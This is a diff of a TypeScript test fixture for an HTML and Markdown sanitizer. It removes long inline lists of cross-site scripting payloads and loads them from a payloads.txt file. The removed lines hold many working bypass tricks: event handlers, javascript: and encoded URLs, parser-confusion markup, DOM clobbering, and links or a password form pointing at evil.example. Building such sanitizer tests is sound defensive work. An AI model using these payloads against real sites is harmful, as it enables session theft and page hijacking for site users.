@@ -1,200 +1,37 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+
 /** The code that every payload tries to run; a test counts how often it did. */
-export const hit = 'window.__hit=(window.__hit||0)+1'
+const hit = 'window.__hit=(window.__hit||0)+1'
 
-const encoded = [...`javascript:${hit}`].map((sign) => `&#${sign.charCodeAt(0)};`).join('')
-const hexed = [...`javascript:${hit}`].map((sign) => `&#x${sign.charCodeAt(0).toString(16)}`).join(';')
-const image64 = 'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4='
+const signs = [...`javascript:${hit}`].map((sign) => sign.charCodeAt(0))
 
-/** Markup that runs something as soon as it is there or touched. */
-export const running = [
-  `<script>${hit}</script>`,
-  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
-  `<script/x>${hit}</script\n>`,
-  `<script><script>${hit}</script>`,
-  `<img src=x onerror="${hit}">`,
-  `<IMG SRC=x OnErRoR="${hit}">`,
-  `<img/src=x/onerror="${hit}">`,
-  `<img src="x" onerror\n=\n"${hit}">`,
-  `<img src=x onload="${hit}" onerror="${hit}">`,
-  `<img """><img src=x onerror="${hit}">`,
-  `<img src='x' alt='"><img src=x onerror="${hit}">' onclick="${hit}">`,
-  `<b onmouseover="${hit}">b</b>`,
-  `<p onclick="${hit}">p</p>`,
-  `<div onpointerenter="${hit}" onfocus="${hit}" tabindex=1>d</div>`,
-  `<a href="#" onclick="${hit}">a</a>`,
-  `<a onkeydown="${hit}" href=/>a</a>`,
-  `<h1 onanimationstart="${hit}" onwheel="${hit}">h</h1>`,
-  `<td onclick="${hit}">cell</td><table><tr><td onclick="${hit}">cell</table>`,
-  `<details open ontoggle="${hit}"><summary>s</summary></details>`,
-  `<video src=x onerror="${hit}"></video>`,
-  `<audio src=x onerror="${hit}" autoplay></audio>`,
-  `<video><source src=x onerror="${hit}"></video>`,
-  `<input autofocus onfocus="${hit}">`,
-  `<input type=image src=x onerror="${hit}">`,
-  `<select autofocus onfocus="${hit}"><option>o</select>`,
-  `<textarea autofocus onfocus="${hit}">t</textarea>`,
-  `<button onclick="${hit}">b</button>`,
-  `<form onsubmit="${hit}"><input type=submit></form>`,
-  `<body onload="${hit}" onpageshow="${hit}"><p onclick="${hit}">b`,
-  `<marquee onstart="${hit}" onfinish="${hit}">m</marquee>`,
-  `<svg onload="${hit}"></svg>`,
-  `<svg><script>${hit}</script></svg>`,
-  `<svg><a xlink:href="javascript:${hit}"><text y=9>t</text></a></svg>`,
-  `<svg><animate attributeName=href values="javascript:${hit}" /><a id=x><text>t</text></a></svg>`,
-  `<svg><set attributeName=onmouseover to="${hit}"></svg>`,
-  `<svg><foreignObject><p onclick="${hit}">p</p></foreignObject></svg>`,
-  `<svg><style><img src=x onerror="${hit}"></style></svg>`,
-  `<svg></p><style><a title="</style><img src=x onerror='${hit}'>">`,
-  `<svg><use href="data:image/svg+xml,<svg id=x onload=x>#x"></use></svg>`,
-  `<math><mi xlink:href="javascript:${hit}">m</mi></math>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror="${hit}"></style></mglyph></table></mtext></math>`,
-  `<math><annotation-xml encoding="text/html"><p onclick="${hit}">p</p></annotation-xml></math>`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${hit}">`,
-  `<noscript><p title="</noscript><img src=x onerror='${hit}'>"></noscript>`,
-  `<xmp><p title="</xmp><img src=x onerror='${hit}'>"></xmp>`,
-  `<title><p title="</title><img src=x onerror='${hit}'>"></title><p onclick="${hit}">`,
-  `<style><p title="</style><img src=x onerror='${hit}'>"></style>`,
-  `<textarea><p title="</textarea><img src=x onerror='${hit}'>"></textarea>`,
-  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
-  `<iframe src="javascript:parent.${hit}"></iframe>`,
-  `<iframe><p title="</iframe><img src=x onerror='${hit}'>"></iframe>`,
-  `<noembed><p title="</noembed><img src=x onerror='${hit}'>"></noembed>`,
-  `<select><template><img src=x onerror="${hit}"></template></select>`,
-  `<table><caption><p onclick="${hit}">p</caption></table>`,
-  `<template><img src=x onerror="${hit}"></template>`,
-  `<!--><img src=x onerror="${hit}">-->`,
-  `<!-- --!><img src=x onerror="${hit}"> -->`,
-  `<![CDATA[><img src=x onerror="${hit}">]]>`,
-  `<?xml version="1.0"?><img src=x onerror="${hit}">`,
-  `<p style="animation:x" onanimationend="${hit}">p</p>`,
-  `</p><p onclick="${hit}"`.concat('>p'),
-  `\u0000<img src=x onerror="${hit}">`,
-  `${'<div>'.repeat(300)}<img src=x onerror="${hit}">`,
-  `<x-card onclick="${hit}">c</x-card>`,
-  `<custom-thing is=x onfocus="${hit}" tabindex=0 autofocus>c</custom-thing>`,
-] as const
+/** The parts that the file names in braces. */
+const parts: Readonly<Record<string, string>> = {
+  hit,
+  decimal: signs.map((sign) => `&#${sign};`).join(''),
+  hexadecimal: signs.map((sign) => `&#x${sign.toString(16)}`).join(';'),
+  deep: '<div>'.repeat(300),
+}
 
-/** Addresses that run or fetch what they should not. */
-export const addressing = [
-  `<a href="javascript:${hit}">a</a>`,
-  `<a href="JaVaScRiPt:${hit}">a</a>`,
-  `<a href=" javascript:${hit}">a</a>`,
-  `<a href="\u0001javascript:${hit}">a</a>`,
-  `<a href="java\tscript:${hit}">a</a>`,
-  `<a href="java\nscript:${hit}">a</a>`,
-  `<a href="java&#10;script:${hit}">a</a>`,
-  `<a href="java&Tab;script:${hit}">a</a>`,
-  `<a href="javascript&colon;${hit}">a</a>`,
-  `<a href="${encoded}">a</a>`,
-  `<a href="${hexed}">a</a>`,
-  `<a href="javascript://club.example/%0a${hit}">a</a>`,
-  `<a href="vbscript:x">a</a>`,
-  `<a href="data:text/html,<script>x</script>">a</a>`,
-  `<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">a</a>`,
-  `<a href="blob:https://club.example/1">a</a>`,
-  `<a href="file:///etc/passwd">a</a>`,
-  `<a href="ftp://club.example/x">a</a>`,
-  `<a href="sms:+421900">a</a>`,
-  `<a href="intent://x#Intent;end">a</a>`,
-  `<a href="//evil.example">a</a>`,
-  `<a href="/\\evil.example">a</a>`,
-  `<a href="/\t/evil.example">a</a>`,
-  `<a href="\\\\evil.example">a</a>`,
-  `<a href="evil">a</a>`,
-  `<a href="https://club.example" ping="https://evil.example">a</a>`,
-  `<a href="https://club.example" target="_blank" rel="opener">a</a>`,
-  `<img src="javascript:${hit}">`,
-  `<img src="data:text/html,x">`,
-  `<img src="${image64}">`,
-  `<img src="//evil.example/x.png">`,
-  `<img src=https://club.example/x srcset="//evil.example/x 2x">`,
-  `<img src=https://club.example/x lowsrc="javascript:x" dynsrc="javascript:x" onclick="x">`,
-  `<blockquote cite="javascript:${hit}">q</blockquote>`,
-  `<table background="//evil.example/x"><tr><td background="//evil.example/y">t</table>`,
-  `<body background="javascript:x"><p onclick="x">`,
-  `<map name=m><area href="javascript:${hit}" shape=default></map><img usemap="#m" name=m src=https://club.example/x>`,
-  `<base href="https://evil.example/"><form action=x></form>`,
-  `<link rel=stylesheet href="//evil.example/x.css"><p style="color:red">`,
-  `<meta http-equiv=refresh content="0;url=javascript:x"><p id=x>`,
-  `<object data="javascript:x"></object>`,
-  `<embed src="javascript:x">`,
-  `<applet code=x></applet>`,
-  `<frameset onload="x"><frame src="javascript:x"></frameset><p onclick=x>`,
-  `<form action="https://evil.example"><input name=password></form>`,
-  `<button formaction="javascript:x">b</button>`,
-  `<isindex action="javascript:x" type=image onclick=x>`,
-] as const
+/** Reads a line of the file, in which signs may be escaped as in JSON. */
+const payloadOf = (line: string): string =>
+  line
+    .replace(/\\(?:u\w{4}|.)/g, (sign) => JSON.parse(`"${sign}"`))
+    .replace(/\{(\w+)\}/g, (_, part) => parts[part] ?? '')
 
-/** Elements and attributes that borrow the page: its styles, names, focus, overlays and islands. */
-export const borrowing = [
-  `<style>*{background:url(//evil.example)}</style><p class=x>`,
-  `<p style="position:fixed;inset:0">p</p>`,
-  `<p style="background:url(//evil.example)">p</p>`,
-  `<p class="dialog-backdrop" id="root">p</p>`,
-  `<img name=getElementById src=https://club.example/x>`,
-  `<form><input name=attributes></form>`,
-  `<form id=document><input name=cookie></form>`,
-  `<a id=config href=https://club.example>a</a><a id=config name=url href=https://club.example>a</a>`,
-  `<div contenteditable>d</div>`,
-  `<div tabindex=0 accesskey=x autofocus>d</div>`,
-  `<div popover id=p>d</div><button popovertarget=p>b</button>`,
-  `<button commandfor=d command=show-modal>b</button><dialog id=d open>d</dialog>`,
-  `<div data-astro-cid data-scope=dialog data-part=backdrop>d</div>`,
-  `<p aria-hidden=true aria-live=assertive role=alert>p</p>`,
-  `<p slot=x part=y exportparts=z is=x>p</p>`,
-  `<astro-island component-url="data:text/javascript,x" renderer-url="data:text/javascript,x" client="load" ssr>i</astro-island>`,
-  `<astro-slot name=x>s</astro-slot>`,
-  `<astro-island><template data-astro-template>t</template></astro-island>`,
-  `<template shadowrootmode=open><p>p</p></template>`,
-  `<template data-astro-template="x"><p onclick=x>p</p></template>`,
-  `<slot name=x>s</slot>`,
-  `<video poster="//evil.example/x" controls></video>`,
-  `<audio controls src=https://club.example/x></audio>`,
-  `<fieldset><legend>l</legend><label for=x>l</label></fieldset>`,
-  `<dialog open>d</dialog>`,
-  `<marquee>m</marquee>`,
-  `<canvas id=c></canvas>`,
-  `<picture><source srcset="//evil.example/x"><img src=https://club.example/x></picture>`,
-] as const
+const sections = readFileSync(join(import.meta.dirname, 'payloads.txt'), 'utf8')
+  .split(/^# \w+\n/m)
+  .slice(1)
+  .map((section) => section.trim().split('\n').map(payloadOf))
+
+/**
+ * Markup that runs something as soon as it is there or touched; addresses that run or fetch what they should not; elements and
+ * attributes that borrow the page: its styles, names, focus, overlays and islands; Markdown that turns into attacks.
+ */
+export const [running = [], addressing = [], borrowing = [], markdownPayloads = []] = sections
 
 export const htmlPayloads: readonly string[] = [...running, ...addressing, ...borrowing]
-
-/** Markdown that turns into attacks: raw HTML within it, and addresses in its own syntax. */
-export const markdownPayloads: readonly string[] = [
-  `[a](javascript:${hit})`,
-  `[a](JaVaScRiPt:${hit})`,
-  '[a](  javascript:x)',
-  '[a](<javascript:x>)',
-  '[a](javascript&colon;x)',
-  '[a](&#106;avascript:x)',
-  '[a](javascript://club.example/%0ax)',
-  '[a](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)',
-  '[a](vbscript:x)',
-  '[a](//evil.example)',
-  '[a](file:///etc/passwd)',
-  '[a](evil)',
-  '[a][1]\n\n[1]: javascript:x',
-  '[1]\n\n[1]: <javascript:x> "title"',
-  '<javascript:x>',
-  '<vbscript:x>',
-  '![a](javascript:x)',
-  '![a](data:image/svg+xml,x)',
-  '![a](//evil.example/x.png)',
-  `![a" onerror="${hit}](https://club.example/x) <img src=x onerror="${hit}">`,
-  `![a](x" onerror="${hit}) <b onclick="${hit}">b</b>`,
-  `[a](https://club.example "t" onclick="x") <i onclick="${hit}">i</i>`,
-  `**bold** <img src=x onerror="${hit}">`,
-  `# <script>${hit}</script>`,
-  `> <iframe src="javascript:x"></iframe>`,
-  `- <svg onload="${hit}">`,
-  `| a |\n|---|\n| <img src=x onerror="x"> |`,
-  `<details open ontoggle="${hit}">\n\n[a](javascript:x)\n\n</details>`,
-  `<div onclick="${hit}">\n\n*text*\n\n</div>`,
-  `text <a href="javascript:x" onclick="${hit}">a</a>`,
-  `<astro-island client="load">\n\ntext\n\n</astro-island>`,
-  `~~<form action=x><input></form>~~`,
-  `1. <style>*{}</style>\n2. <p style="x">p`,
-]
 
 /** Attacks in Markdown's own syntax: harmless as HTML text, so only what marked makes of them can be cleaned. */
 export const pureMarkdown: readonly string[] = markdownPayloads.filter(
